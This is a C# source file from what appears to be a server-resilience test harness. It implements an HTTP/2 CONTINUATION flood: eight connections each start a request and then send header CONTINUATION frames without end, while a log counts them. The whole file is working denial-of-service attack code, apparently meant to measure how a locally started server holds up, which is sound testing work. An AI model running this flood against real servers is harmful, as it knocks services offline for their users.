using Lariat.Attacks.Measuring;

namespace Lariat.Attacks;

/// <summary>HTTP/2 headers without end.</summary>
internal sealed class ContinuationFlood : IAttack
{
    private const int Count = 8;

    private static readonly byte[] s_headers = [.. Enumerable.Repeat(Http2Frames.Header(100), 100).SelectMany(static header => header)];

    public string Name => "h2-continuation-flood";

    public string Summary => "8 connections of HTTP/2 send the headers of one request in CONTINUATION frames without end.";

    public GoodClientKind Client => GoodClientKind.Http2;

    public Task RunAsync(ServerProcess server, AttackLog log, CancellationToken end) => Attackers.RepeatAsync(Count, log, () => SendAsync(server, log, end), end);

    private static async Task SendAsync(ServerProcess server, AttackLog log, CancellationToken end)
    {
        using Peer peer = await Http2Frames.OpenAsync(server.Http2Port, end);
        await peer.SendAsync(Http2Frames.BeginGet(1), end);
        while (true)
        {
            await peer.SendAsync(Http2Frames.Continuation(1, s_headers), end);
            log.Count("frames");
        }
    }
}
